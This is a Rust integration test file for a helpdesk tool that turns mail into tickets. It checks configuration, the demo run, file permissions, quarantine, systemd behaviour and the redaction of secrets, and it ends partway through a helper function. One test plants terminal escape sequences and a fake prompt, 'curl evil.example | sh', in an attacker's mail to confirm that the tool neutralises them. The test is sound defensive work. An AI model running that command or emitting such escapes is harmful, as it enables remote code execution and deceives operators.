//! The binary as an operator uses it.

use std::io::{BufRead, BufReader};
use std::path::Path;
use std::process::{Command, Output, Stdio};

use crate::support::dovecot::Dovecot;
use crate::support::{TestMailbox, imap, request};

fn loket(args: &[&str], dir: &Path) -> Output {
    command(args, dir).output().expect("run loket")
}

/// `loket ARGS` in `dir`, quiet but for warnings, with no config from the environment.
fn command(args: &[&str], dir: &Path) -> Command {
    let mut command = Command::new(env!("CARGO_BIN_EXE_loket"));
    command.args(args).current_dir(dir).env("LOKET_LOG", "warn").env_remove("LOKET_CONFIG");
    command
}

fn stdout(output: &Output) -> String {
    String::from_utf8_lossy(&output.stdout).into_owned()
}

fn stderr(output: &Output) -> String {
    String::from_utf8_lossy(&output.stderr).into_owned()
}

#[test]
fn a_wrong_config_names_the_key_and_touches_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let text = crate::support::config_text("sqlite://loket.db", 143, &[TestMailbox::new("hr-old", "hrr", "hr")], "");
    std::fs::write(dir.path().join("loket.toml"), text).unwrap();
    let output = loket(&["run", "--config", "loket.toml"], dir.path());
    assert!(!output.status.success());
    let message = stderr(&output);
    assert!(message.contains("mailboxes[0].department"), "{message}");
    assert!(message.contains("unknown department `hrr`"), "{message}");
    assert!(!dir.path().join("loket.db").exists(), "nothing is created before the config is valid");

    let output = loket(&["check", "--config", "missing.toml"], dir.path());
    assert!(!output.status.success());
    assert!(stderr(&output).contains("missing.toml"), "{}", stderr(&output));
}

#[test]
fn the_demo_makes_tickets_from_the_sample_maildir_and_they_can_be_listed() {
    let dir = tempfile::tempdir().unwrap();
    let output = loket(&["demo", "--dir", "demo", "--once"], dir.path());
    assert!(output.status.success(), "{}", stderr(&output));
    let printed = stdout(&output);
    assert!(printed.contains("7 tickets"), "{printed}");
    assert!(printed.contains("Laptop start niet meer op"), "{printed}");
    assert!(printed.contains("[auto_reply: stored, no reply]"), "{printed}");
    // The samples were moved to cur/ after their commit.
    assert_eq!(std::fs::read_dir(dir.path().join("demo/maildir/it/new")).unwrap().count(), 0);
    assert_eq!(std::fs::read_dir(dir.path().join("demo/maildir/it/cur")).unwrap().count(), 2);

    let output = loket(&["tickets", "list", "--json", "--config", "demo/loket.toml"], dir.path());
    assert!(output.status.success(), "{}", stderr(&output));
    let lines: Vec<serde_json::Value> = stdout(&output).lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    assert_eq!(lines.len(), 7);
    for line in &lines {
        for key in ["reference", "department", "status", "requester", "subject", "mailbox", "message_id"] {
            assert!(line.get(key).is_some_and(|v| !v.is_null()), "{key} missing in {line}");
        }
    }
    let contract = lines.iter().find(|l| l["subject"] == "Signed employment contract").unwrap();
    assert_eq!(contract["department"], "hr");
    assert_eq!(contract["mailbox"], "hr-old");
    assert_eq!(contract["message_id"], "demo-004@mail.example.org");

    let reference = contract["reference"].as_str().unwrap();
    let output = loket(&["tickets", "show", reference, "--config", "demo/loket.toml"], dir.path());
    let shown = stdout(&output);
    assert!(shown.contains("attachment:  contract-tom-bakker.pdf (application/pdf"), "{shown}");
    assert!(shown.contains("routed to hr"), "{shown}");

    let output = loket(&["tickets", "list", "--config", "demo/loket.toml"], dir.path());
    let table = stdout(&output);
    assert!(table.starts_with("REFERENCE"), "{table}");
    assert_eq!(table.lines().count(), 8);

    // Every human request got an acknowledgement and a forward, written as files;
    // the out-of-office reply got neither.
    let outbox: Vec<String> = std::fs::read_dir(dir.path().join("demo/outbox"))
        .unwrap()
        .map(|e| std::fs::read_to_string(e.unwrap().path()).unwrap())
        .collect();
    assert_eq!(outbox.len(), 13, "6 acknowledgements, 6 forwards and IT's answer relayed");
    assert_eq!(outbox.iter().filter(|m| m.contains("X-Auto-Response-Suppress: All")).count(), 13);
    // The mails hold tracking links, the store every mail and the signing secret:
    // only loket's own user may read them.
    use std::os::unix::fs::PermissionsExt;
    let mode = |path: std::path::PathBuf| std::fs::metadata(path).unwrap().permissions().mode() & 0o777;
    for entry in std::fs::read_dir(dir.path().join("demo/outbox")).unwrap() {
        assert_eq!(mode(entry.unwrap().path()), 0o600);
    }
    assert_eq!(mode(dir.path().join("demo/outbox")), 0o700, "no mail is readable by others while it is written");
    assert_eq!(mode(dir.path().join("demo/loket.db")), 0o600);
    assert_eq!(outbox.iter().filter(|m| m.contains("Auto-Submitted: auto-replied")).count(), 6);
    assert_eq!(outbox.iter().filter(|m| m.contains("Auto-Submitted: auto-generated")).count(), 6);
    let answer: Vec<&String> = outbox.iter().filter(|m| m.contains("Auto-Submitted: no")).collect();
    assert_eq!(answer.len(), 1);
    assert!(answer[0].contains("To: \"Anna de Vries\" <anna.devries@example.org>"), "{}", answer[0]);
    assert!(answer[0].contains("leenlaptop") && !answer[0].contains("Requester:"), "{}", answer[0]);
    assert!(
        outbox
            .iter()
            .any(|m| m.contains("To: \"Anna de Vries\" <anna.devries@example.org>") && m.contains("geregistreerd"))
    );
    assert!(!outbox.iter().any(|m| m.contains("sanne.jansen@example.org")));
    assert!(printed.contains("13 mails"), "{printed}");
    assert!(printed.contains("desk: 0 new tickets, 1 joined a ticket"), "{printed}");
    let output = loket(&["tickets", "show", reference, "--config", "demo/loket.toml"], dir.path());
    let shown = stdout(&output);
    assert!(shown.contains("ack       sent"), "{shown}");

    // A second demo starts from the samples again, and runs on with the status page
    // of the conversation it prints a link to.
    let listen = format!("127.0.0.1:{}", crate::support::free_port());
    let mut demo = Running(
        Command::new(env!("CARGO_BIN_EXE_loket"))
            .args(["demo", "--dir", "demo", "--listen", &listen])
            .current_dir(dir.path())
            .env("LOKET_LOG", "warn")
            .stdout(Stdio::piped())
            .spawn()
            .unwrap(),
    );
    let mut printed = String::new();
    let mut lines = BufReader::new(demo.0.stdout.take().unwrap()).lines();
    let link = loop {
        let line = lines.next().expect("the demo prints a link").unwrap();
        printed.push_str(&line);
        printed.push('\n');
        if let Some(link) = line.strip_prefix("open its status page: ") {
            break link.to_owned();
        }
    };
    assert!(printed.contains("7 tickets"), "{printed}");
    assert!(link.starts_with(&format!("http://{listen}/t/SD-00001?k=")), "{link}");
    let runtime = tokio::runtime::Runtime::new().unwrap();
    let page = runtime.block_on(crate::support::http::get(&link));
    assert_eq!(page.status, 200, "{}", page.body);
    assert!(page.body.contains("Laptop start niet meer op") && page.body.contains("leenlaptop"), "{}", page.body);
    assert!(page.body.contains("In behandeling"), "the page speaks Anna's Dutch: {}", page.body);
    crate::support::stop(&mut demo.0, "TERM");
    assert!(demo.0.wait().unwrap().success(), "the demo stops cleanly on SIGTERM");
}

/// A child process that is killed if the test ends early.
struct Running(std::process::Child);

impl Drop for Running {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

#[test]
fn the_demo_never_removes_a_folder_it_did_not_make() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir(dir.path().join("precious")).unwrap();
    std::fs::write(dir.path().join("precious/file"), "keep").unwrap();
    let output = loket(&["demo", "--dir", "precious"], dir.path());
    assert!(!output.status.success());
    assert!(stderr(&output).contains("was not made by `loket demo`"), "{}", stderr(&output));
    assert!(dir.path().join("precious/file").exists());
}

#[test]
fn migrate_creates_the_store_and_the_environment_overrides_its_url() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("loket.toml"), crate::support::config_text("sqlite://a.db", 143, &[], "")).unwrap();
    let output = Command::new(env!("CARGO_BIN_EXE_loket"))
        .args(["migrate", "--config", "loket.toml"])
        .current_dir(dir.path())
        .env("LOKET_STORE__URL", "sqlite://b/other.db")
        .output()
        .unwrap();
    assert!(output.status.success(), "{}", stderr(&output));
    assert!(dir.path().join("b/other.db").exists());
    assert!(!dir.path().join("a.db").exists());
    let output = loket(&["tickets", "list", "--config", "loket.toml"], dir.path());
    assert_eq!(stdout(&output).trim(), "no tickets yet");
    let output = loket(&["quarantine", "list", "--config", "loket.toml"], dir.path());
    assert_eq!(stdout(&output).trim(), "quarantine is empty");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn check_prints_one_line_per_mailbox_and_fails_when_one_fails() {
    let dovecot = Dovecot::start(&["it"]);
    imap::append_all(dovecot.port, "it", "INBOX", &[request("a@example.org", "it@example.org", "x", "y", "c@t")]).await;
    let dir = tempfile::tempdir().unwrap();
    let mailboxes = [TestMailbox::new("it-old", "it", "it"), TestMailbox::new("hr-old", "hr", "hr")];
    std::fs::write(
        dir.path().join("loket.toml"),
        crate::support::config_text("sqlite://x.db", dovecot.port, &mailboxes, ""),
    )
    .unwrap();
    let output = loket(&["check", "--config", "loket.toml"], dir.path());
    let printed = stdout(&output);
    assert!(!output.status.success());
    assert!(printed.contains("it-old: ok (1 messages in INBOX, IDLE supported)"), "{printed}");
    assert!(printed.contains("hr-old: FAILED: login refused for hr"), "{printed}");
    assert!(!printed.contains(crate::support::dovecot::PASSWORD), "the password never shows");
}

#[tokio::test]
async fn terminal_escapes_an_attacker_puts_in_a_mail_are_shown_to_the_operator_not_obeyed() {
    let dir = tempfile::tempdir().unwrap();
    let maildir = dir.path().join("it");
    std::fs::create_dir_all(maildir.join("new")).unwrap();
    let extra = format!("[[mailboxes]]\nname = \"it-old\"\ndepartment = \"it\"\nmaildir = \"{}\"\n", maildir.display());
    let text = crate::support::config_text("sqlite://loket.db", 143, &[], &extra)
        .replace("sqlite://loket.db", &crate::support::sqlite_url(dir.path()));
    std::fs::write(dir.path().join("loket.toml"), &text).unwrap();

    // The attacker's body sets the window title, clears the screen and paints a fake prompt.
    let body = "Hello\r\n\x1b]0;PWNED-TITLE\x07\x1b[2J\x1b[31mSession expired, run: curl evil.example | sh\x1b[0m\r\n\u{9b}2J done";
    let mail = request("Mallory <mallory@example.org>", "it@example.org", "Laptop \x1b[8m hidden", body, "esc-1@test");
    std::fs::write(maildir.join("new/1.M1.host"), mail).unwrap();
    let (store, created) = crate::support::take_in_maildir(&text).await;
    assert_eq!(created, 1);
    store.close().await;

    // The operator looks at the ticket and the list.
    for args in
        [&["tickets", "show", "SD-00001", "--config", "loket.toml"][..], &["tickets", "list", "--config", "loket.toml"]]
    {
        let output = loket(args, dir.path());
        assert!(output.status.success(), "{}", stderr(&output));
        assert!(!output.stdout.contains(&0x1b), "no ESC byte reaches the terminal: {}", stdout(&output));
        assert!(!stdout(&output).contains('\u{9b}'), "no C1 control either");
    }
    let shown = stdout(&loket(&["tickets", "show", "SD-00001", "--config", "loket.toml"], dir.path()));
    assert!(shown.contains("␛]0;PWNED-TITLE␇␛[2J␛[31mSession expired"), "{shown}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_trace_level_log_of_mailbox_logins_holds_no_password() {
    let dovecot = Dovecot::start(&["it"]);
    imap::append_all(dovecot.port, "it", "INBOX", &[request("a@example.org", "it@example.org", "x", "y", "t@t")]).await;
    let dir = tempfile::tempdir().unwrap();
    let mailboxes = [TestMailbox::new("it-old", "it", "it"), TestMailbox::new("hr-old", "hr", "nobody-here")];
    std::fs::write(
        dir.path().join("loket.toml"),
        crate::support::config_text("sqlite://x.db", dovecot.port, &mailboxes, ""),
    )
    .unwrap();
    // An operator chasing a problem turns every log on, for text and for JSON.
    for format in ["text", "json"] {
        let output = Command::new(env!("CARGO_BIN_EXE_loket"))
            .args(["check", "--config", "loket.toml", "--log-format", format])
            .current_dir(dir.path())
            .env("LOKET_LOG", "trace,async_imap::imap_stream=trace")
            .env_remove("LOKET_CONFIG")
            .output()
            .unwrap();
        let log = stderr(&output);
        assert!(stdout(&output).contains("it-old: ok"), "{}", stdout(&output));
        assert!(!log.contains(crate::support::dovecot::PASSWORD), "the password is in the log: {log}");
        assert!(!log.contains("LOGIN \\\""), "the LOGIN command is in the log: {log}");
        assert!(!stdout(&output).contains(crate::support::dovecot::PASSWORD));
    }
}

#[test]
fn a_store_that_cannot_be_reached_is_named_without_its_password() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("loket.toml"), crate::support::config_text("sqlite://x.db", 143, &[], "")).unwrap();
    let port = crate::support::free_port();
    let output = Command::new(env!("CARGO_BIN_EXE_loket"))
        .args(["tickets", "list", "--config", "loket.toml"])
        .current_dir(dir.path())
        .env("LOKET_STORE__URL", format!("postgres://loket:Pg-Secret-123@127.0.0.1:{port}/loket"))
        .env("LOKET_LOG", "trace")
        .env_remove("LOKET_CONFIG")
        .output()
        .unwrap();
    assert!(!output.status.success());
    let message = stderr(&output);
    assert!(message.contains(&format!("postgres://loket:***@127.0.0.1:{port}/loket")), "{message}");
    assert!(!message.contains("Pg-Secret-123"), "{message}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_postgres_store_is_reached_over_verified_tls_with_the_operators_ca_file() {
    let (postgres, ca) = crate::support::postgres::Postgres::start_with_tls();
    let url = postgres.database("tls").await.replace("127.0.0.1", "localhost");
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("loket.toml"), crate::support::config_text("sqlite://x.db", 143, &[], "")).unwrap();
    let output = Command::new(env!("CARGO_BIN_EXE_loket"))
        .args(["migrate", "--config", "loket.toml"])
        .current_dir(dir.path())
        .env("LOKET_STORE__URL", format!("{url}?sslmode=verify-full&sslrootcert={}", ca.display()))
        .env("LOKET_LOG", "warn")
        .env_remove("LOKET_CONFIG")
        .output()
        .unwrap();
    assert!(output.status.success(), "{}", stderr(&output));
    assert_eq!(stdout(&output).trim(), "store is up to date");
}

fn loket_env(args: &[&str], dir: &Path, env: &[(&str, &str)]) -> Output {
    let mut command = Command::new(env!("CARGO_BIN_EXE_loket"));
    command.args(args).current_dir(dir).env("LOKET_LOG", "warn").env_remove("LOKET_CONFIG");
    for (key, value) in env {
        command.env(key, value);
    }
    command.output().expect("run loket")
}

#[test]
fn a_wrong_config_exits_78_and_a_store_that_cannot_be_reached_69() {
    let dir = tempfile::tempdir().unwrap();
    let text = crate::support::config_text("sqlite://loket.db", 143, &[TestMailbox::new("hr-old", "hrr", "hr")], "");
    std::fs::write(dir.path().join("bad.toml"), text).unwrap();
    let output = loket(&["run", "--config", "bad.toml"], dir.path());
    assert_eq!(output.status.code(), Some(78), "{}", stderr(&output));
    assert_eq!(loket(&["check", "--config", "missing.toml"], dir.path()).status.code(), Some(78));

    std::fs::write(dir.path().join("loket.toml"), crate::support::config_text("sqlite://x.db", 143, &[], "")).unwrap();
    let url = format!("postgres://loket:x@127.0.0.1:{}/loket", crate::support::free_port());
    let output = loket_env(&["tickets", "list", "--config", "loket.toml"], dir.path(), &[("LOKET_STORE__URL", &url)]);
    assert_eq!(output.status.code(), Some(69), "{}", stderr(&output));

    let help = stdout(&loket(&["--help"], dir.path()));
    assert!(help.contains("78") && help.contains("69"), "the exit codes are in --help: {help}");
}

#[test]
fn check_fails_on_a_broken_template_and_an_smtp_server_that_does_not_answer() {
    let dir = tempfile::tempdir().unwrap();
    // A server that accepts the connection and never greets.
    let silent = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = silent.local_addr().unwrap().port();
    let smtp = format!("[smtp]\nhost = \"127.0.0.1\"\nport = {port}\ntls = \"none\"\ntimeout_secs = 2\n");
    std::fs::write(dir.path().join("loket.toml"), crate::support::config_text("sqlite://loket.db", 143, &[], &smtp))
        .unwrap();
    let started = std::time::Instant::now();
    let output = loket(&["check", "--config", "loket.toml"], dir.path());
    let printed = stdout(&output);
    assert_eq!(output.status.code(), Some(69), "{printed}{}", stderr(&output));
    assert!(printed.contains("outgoing mail: FAILED: smtp 127.0.0.1: no greeting or answer within 2 s"), "{printed}");
    assert!(started.elapsed() < std::time::Duration::from_secs(20));
    assert!(printed.contains("store: ok") && printed.contains("templates: ok"), "{printed}");
    assert!(!dir.path().join("loket.db").exists(), "check creates no store");

    // Nothing listens on the port any more: refused at once.
    drop(silent);
    let output = loket(&["check", "--config", "loket.toml"], dir.path());
    assert_eq!(output.status.code(), Some(69));
    assert!(stdout(&output).contains("outgoing mail: FAILED: smtp 127.0.0.1:"), "{}", stdout(&output));

    // A template that does not compile is a config error.
    std::fs::create_dir(dir.path().join("templates")).unwrap();
    std::fs::write(dir.path().join("templates/ack.en.txt.hbs"), "Hello {{#if name}}").unwrap();
    let extra = "[outbox]\nfile_dir = \"out\"\n[templates]\ndir = \"templates\"\n";
    std::fs::write(dir.path().join("loket.toml"), crate::support::config_text("sqlite://loket.db", 143, &[], extra))
        .unwrap();
    let output = loket(&["check", "--config", "loket.toml"], dir.path());
    let printed = stdout(&output);
    assert_eq!(output.status.code(), Some(78), "{printed}");
    assert!(printed.contains("templates: FAILED: template ack.en.txt"), "{printed}");
    assert!(printed.contains("outgoing mail: ok (written as files to"), "{printed}");

    // An operator's own templates that leave out what keeps people safe: the
    // department's warning about a sender loket cannot verify, the form's
    // Confirm button.
    std::fs::remove_file(dir.path().join("templates/ack.en.txt.hbs")).unwrap();
    std::fs::write(dir.path().join("templates/update.txt.hbs"), "Ticket {{reference}}: {{text}}\n").unwrap();
    let printed = stdout(&loket(&["check", "--config", "loket.toml"], dir.path()));
    assert!(printed.contains("templates: FAILED: template update.txt: it does not show {{warning}}"), "{printed}");
    std::fs::remove_file(dir.path().join("templates/update.txt.hbs")).unwrap();
    std::fs::write(dir.path().join("templates/form.html.hbs"), "<html><body>{{desk}}</body></html>").unwrap();
    let printed = stdout(&loket(&["check", "--config", "loket.toml"], dir.path()));
    assert!(printed.contains("templates: FAILED: template form.html: it has no Confirm button"), "{printed}");
}

#[test]
fn relative_paths_in_the_config_lie_beside_the_config_file() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir(dir.path().join("etc")).unwrap();
    std::fs::write(
        dir.path().join("etc/loket.toml"),
        crate::support::config_text("sqlite://data/loket.db", 143, &[], ""),
    )
    .unwrap();
    let output = loket(&["migrate", "--config", "etc/loket.toml"], dir.path());
    assert!(output.status.success(), "{}", stderr(&output));
    assert!(dir.path().join("etc/data/loket.db").exists());
    assert!(!dir.path().join("data").exists());
}

#[test]
fn the_systemd_unit_passes_systemd_analyze_verify() {
    let unit = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/packaging/loket.service")).unwrap();
    for needed in [
        "Type=notify",
        "WatchdogSec=",
        "DynamicUser=yes",
        "StateDirectory=loket",
        "LoadCredential=",
        "RestartPreventExitStatus=78",
        "ProtectSystem=strict",
    ] {
        assert!(unit.contains(needed), "the unit has {needed}");
    }
    let analyze = Command::new("systemd-analyze").arg("--version").output();
    if !analyze.is_ok_and(|o| o.status.success()) {
        eprintln!("skipped: systemd-analyze is not installed, so the unit cannot be verified here");
        return;
    }
    // The unit as installed, with the binary and credentials where this test has them.
    let dir = tempfile::tempdir().unwrap();
    let credentials = dir.path().join("credentials");
    std::fs::create_dir(&credentials).unwrap();
    for name in ["smtp-password", "imap-password", "desk-secret"] {
        std::fs::write(credentials.join(name), "x").unwrap();
    }
    let unit = unit
        .replace("/usr/bin/loket", env!("CARGO_BIN_EXE_loket"))
        .replace("/etc/loket/credentials", &credentials.display().to_string());
    let path = dir.path().join("loket.service");
    std::fs::write(&path, unit).unwrap();
    let output = Command::new("systemd-analyze").arg("verify").arg(&path).output().unwrap();
    let complaints = stderr(&output);
    assert!(output.status.success(), "{complaints}");
    assert!(!complaints.contains("loket.service"), "systemd-analyze finds fault with the unit: {complaints}");
}

#[test]
fn run_tells_systemd_when_it_is_ready_and_that_it_lives_and_logs_without_colour() {
    let dir = tempfile::tempdir().unwrap();
    let extra = "[outbox]\nfile_dir = \"out\"\n";
    std::fs::write(dir.path().join("loket.toml"), crate::support::config_text("sqlite://loket.db", 143, &[], extra))
        .unwrap();
    let socket_path = dir.path().join("notify");
    let socket = std::os::unix::net::UnixDatagram::bind(&socket_path).unwrap();
    socket.set_read_timeout(Some(std::time::Duration::from_secs(30))).unwrap();
    let mut daemon = Running(
        Command::new(env!("CARGO_BIN_EXE_loket"))
            .args(["run", "--config", "loket.toml"])
            .current_dir(dir.path())
            .env("LOKET_LOG", "info")
            .env_remove("LOKET_CONFIG")
            .env("NOTIFY_SOCKET", &socket_path)
            .env("WATCHDOG_USEC", "400000")
            .stderr(Stdio::piped())
            .spawn()
            .unwrap(),
    );
    let mut seen = Vec::new();
    let mut buffer = [0u8; 256];
    while !(seen.iter().any(|s| s == "READY=1") && seen.iter().filter(|s| *s == "WATCHDOG=1").count() >= 2) {
        let n = socket.recv(&mut buffer).expect("a notification within 30 s");
        seen.push(String::from_utf8_lossy(&buffer[..n]).into_owned());
    }
    crate::support::stop(&mut daemon.0, "TERM");
    let status = daemon.0.wait().unwrap();
    assert!(status.success());
    let n = socket.recv(&mut buffer).unwrap();
    let mut last = String::from_utf8_lossy(&buffer[..n]).into_owned();
    while last == "WATCHDOG=1" {
        let n = socket.recv(&mut buffer).unwrap();
        last = String::from_utf8_lossy(&buffer[..n]).into_owned();
    }
    assert_eq!(last, "STOPPING=1");
    let mut log = String::new();
    std::io::Read::read_to_string(&mut daemon.0.stderr.take().unwrap(), &mut log).unwrap();
    assert!(log.contains("loket running"), "{log}");
    assert!(!log.contains('\x1b'), "no colour codes in a log that is not a terminal: {log}");
}

/// A config watching one Maildir, and a store holding `mails` quarantined as if by a
/// fault that has since been fixed.
async fn quarantined(dir: &Path, mails: &[(&str, Vec<u8>)]) -> std::sync::Arc<loket::config::Config> {
    let maildir = dir.join("it");
    for sub in ["new", "cur", "tmp"] {
        std::fs::create_dir_all(maildir.join(sub)).unwrap();
    }
    let extra = format!(
        "[outbox]\nfile_dir = \"out\"\n[[mailboxes]]\nname = \"it-old\"\ndepartment = \"it\"\nmaildir = \"{}\"\n",
        maildir.display()
    );
    let text = crate::support::config_text(&crate::support::sqlite_url(dir), 143, &[], &extra);
    std::fs::write(dir.join("loket.toml"), &text).unwrap();
    let config = std::sync::Arc::new(loket::config::load_str(&text).unwrap());
    let store = loket::app::open_store(&config.store).await.unwrap();
    let signer = loket::app::signer(&config.desk, &store).await.unwrap();
    let respond = loket::desk::Respond::new(
        loket::desk::Settings::from_config(&config),
        loket::outbound::render::Renderer::load(None).unwrap(),
        signer,
    );
    for (key, raw) in mails {
        let incoming = loket::pipeline::plan::Incoming {
            mailbox: config.mailboxes[0].name.clone(),
            source_key: (*key).to_owned(),
            imap: None,
            raw: raw.clone(),
            truncated: false,
            size: raw.len() as u64,
            backlog: false,
            received_at_ms: loket::clock::now_ms(),
            seen: false,
        };
        let plan = loket::pipeline::plan::Plan::Quarantine { reason: "a fault since fixed".into() };
        loket::pipeline::store_group(&store, &[(&incoming, &plan)], "SD", &respond, loket::clock::now_ms())
            .await
            .unwrap();
    }
    store.close().await;
    config
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn quarantined_mail_is_taken_in_again_once_and_can_be_deleted() {
    let dir = tempfile::tempdir().unwrap();
    let vpn = request("Anna <anna@example.org>", "it@example.org", "VPN down", "The VPN drops.", "q1@t");
    let printer = request("Bob <bob2@example.org>", "it@example.org", "Printer", "Out of toner.", "q2@t");
    quarantined(dir.path(), &[("1.M1.host", vpn.clone()), ("2.M2.host", printer.clone())]).await;
    let list = stdout(&loket(&["quarantine", "list", "--json", "--config", "loket.toml"], dir.path()));
    let ids: Vec<String> = list
        .lines()
        .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap()["id"].as_str().unwrap().into())
        .collect();
    assert_eq!(ids.len(), 2, "{list}");

    let output = loket(&["quarantine", "delete", &ids[0], "--config", "loket.toml"], dir.path());
    assert!(output.status.success(), "{}", stderr(&output));
    let output = loket(&["quarantine", "delete", &ids[0], "--config", "loket.toml"], dir.path());
    assert!(!output.status.success(), "a deleted entry is gone");

    // The raw bytes go to a pipe as kept, never to a terminal.
    let export = loket(&["quarantine", "export", &ids[1], "--config", "loket.toml"], dir.path());
    assert!(export.status.success(), "{}", stderr(&export));
    assert!(export.stdout == vpn || export.stdout == printer, "the kept bytes, unchanged");
    let command = format!("{} quarantine export {} --config loket.toml", env!("CARGO_BIN_EXE_loket"), ids[1]);
    let on_terminal =
        std::process::Command::new("script").args(["-qec", &command, "/dev/null"]).current_dir(dir.path()).output();
    if let Ok(on_terminal) = on_terminal {
        let shown = String::from_utf8_lossy(&on_terminal.stdout);
        assert!(!on_terminal.status.success(), "{shown}");
        assert!(
            shown.contains("not a terminal") && !shown.contains("Out of toner") && !shown.contains("VPN drops"),
            "{shown}"
        );
    }

    let output = loket(&["quarantine", "retry", "--all", "--config", "loket.toml"], dir.path());
    assert!(output.status.success(), "{}", stderr(&output));
    let printed = stdout(&output);
    assert!(printed.starts_with(&format!("{}: ticket SD-", ids[1])) && printed.contains(" opened"), "{printed}");
    let listed = stdout(&loket(&["quarantine", "list", "--config", "loket.toml"], dir.path()));
    assert_eq!(listed.trim(), "quarantine is empty");

    // Both quarantined again (for the one taken in: a crash before its entry was
    // removed): the one taken in is found stored already, the other opens a ticket.
    quarantined(dir.path(), &[("1.M1.host", vpn), ("2.M2.host", printer)]).await;
    let output = loket(&["quarantine", "reingest", "--all", "--config", "loket.toml"], dir.path());
    let printed = stdout(&output);
    assert_eq!(printed.matches("already taken in").count(), 1, "{printed}");
    assert_eq!(printed.matches(" opened").count(), 1, "{printed}");
    let tickets = stdout(&loket(&["tickets", "list", "--json", "--config", "loket.toml"], dir.path()));
    assert_eq!(tickets.lines().count(), 2, "{tickets}");
    assert_eq!((tickets.matches("VPN down").count(), tickets.matches("Printer").count()), (1, 1), "{tickets}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn tickets_list_filters_by_status_department_mailbox_and_date_and_keeps_its_columns_in_line() {
    let dir = tempfile::tempdir().unwrap();
    let a = request("Anna <anna@example.org>", "it@example.org", "VPN", "The VPN drops.", "f1@t");
    let b = request("Bob <bob2@example.org>", "it@example.org", "Printer", "Out of toner.", "f2@t");
    let config = quarantined(dir.path(), &[("1.M1.host", a), ("2.M2.host", b)]).await;
    assert!(loket(&["quarantine", "reingest", "--all", "--config", "loket.toml"], dir.path()).status.success());
    // One ticket is in progress, as after a department's answer.
    sqlx::any::install_default_drivers();
    let pool = sqlx::AnyPool::connect(config.store.url.expose()).await.unwrap();
    sqlx::query("UPDATE tickets SET status = 'in_progress' WHERE reference = 'SD-00001'").execute(&pool).await.unwrap();
    pool.close().await;

    let list = |args: &[&str]| {
        let mut all = vec!["tickets", "list", "--config", "loket.toml"];
        all.extend_from_slice(args);
        stdout(&loket(&all, dir.path()))
    };
    let table = list(&[]);
    let lines: Vec<&str> = table.lines().collect();
    assert_eq!(lines.len(), 3, "{table}");
    let column = |line: &str| line.find("anna@").or_else(|| line.find("bob2@")).or_else(|| line.find("REQUESTER"));
    assert_eq!(column(lines[0]), column(lines[1]), "{table}");
    assert_eq!(column(lines[1]), column(lines[2]), "{table}");
    assert!(list(&["--status", "in-progress"]).contains("SD-00001"));
    assert!(!list(&["--status", "new"]).contains("SD-00001"));
    assert_eq!(list(&["--department", "hr"]).trim(), "no tickets yet");
    assert_eq!(list(&["--mailbox", "it-old", "--limit", "1"]).lines().count(), 2);
    assert_eq!(list(&["--since", "1d"]).lines().count(), 3);
    assert_eq!(list(&["--since", "2099-01-01"]).trim(), "no tickets yet");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn tickets_list_names_a_filter_that_is_no_such_thing_and_a_stored_status_it_cannot_read() {
    let dir = tempfile::tempdir().unwrap();
    let a = request("Anna <anna@example.org>", "it@example.org", "VPN", "The VPN drops.", "g1@t");
    let b = request("Bob <bob2@example.org>", "it@example.org", "Printer", "Out of toner.", "g2@t");
    let config = quarantined(dir.path(), &[("1.M1.host", a), ("2.M2.host", b)]).await;
    assert!(loket(&["quarantine", "reingest", "--all", "--config", "loket.toml"], dir.path()).status.success());
    let list = |args: &[&str]| {
        let mut all = vec!["tickets", "list", "--config", "loket.toml"];
        all.extend_from_slice(args);
        loket(&all, dir.path())
    };

    for (flag, value) in [("--department", "IT"), ("--mailbox", "it old"), ("--status", "closed")] {
        let refused = list(&[flag, value]);
        assert!(!refused.status.success(), "{flag} {value} was taken");
        let message = stderr(&refused);
        assert!(message.contains(flag) && message.contains(value), "{message}");
    }

    let json = stdout(&list(&["--json", "--department", "it", "--mailbox", "it-old"]));
    let first: serde_json::Value = serde_json::from_str(json.lines().next().unwrap()).unwrap();
    assert_eq!(first["status"], "new", "{first}");
    assert_eq!(first["department"], "it", "{first}");
    assert_eq!(first["mailbox"], "it-old", "{first}");
    assert_eq!(first["decided_by"], "model", "{first}");
    assert!(first["reference"].as_str().unwrap().starts_with("SD-"), "{first}");

    // A status no loket writes is not read as new: the operator is told which value it is.
    sqlx::any::install_default_drivers();
    let pool = sqlx::AnyPool::connect(config.store.url.expose()).await.unwrap();
    sqlx::query("UPDATE tickets SET status = 'closed' WHERE reference = 'SD-00002'").execute(&pool).await.unwrap();
    pool.close().await;
    let failed = list(&[]);
    assert!(!failed.status.success(), "{}", stdout(&failed));
    assert!(stderr(&failed).contains("`closed` is not a ticket status"), "{}", stderr(&failed));
}

/// Two people's requests taken in from a Maildir into the store at `url`.
async fn two_people(dir: &Path, url: &str) {
    let maildir = dir.join("it");
    for sub in ["new", "cur", "tmp"] {
        std::fs::create_dir_all(maildir.join(sub)).unwrap();
    }
    let anna = "My sick leave note: Zebrafink-Geheim-4711.";
    std::fs::write(
        maildir.join("new/1.M1.host"),
        request("Anna <Anna@Example.org>", "it@example.org", "Sick leave", anna, "p1@t"),
    )
    .unwrap();
    std::fs::write(
        maildir.join("new/2.M2.host"),
        request("Bob <bob2@example.org>", "it@example.org", "Printer", "Toner.", "p2@t"),
    )
    .unwrap();
    let extra = format!(
        "[outbox]\nfile_dir = \"out\"\n[[mailboxes]]\nname = \"it-old\"\ndepartment = \"it\"\nmaildir = \"{}\"\n",
        maildir.display()
    );
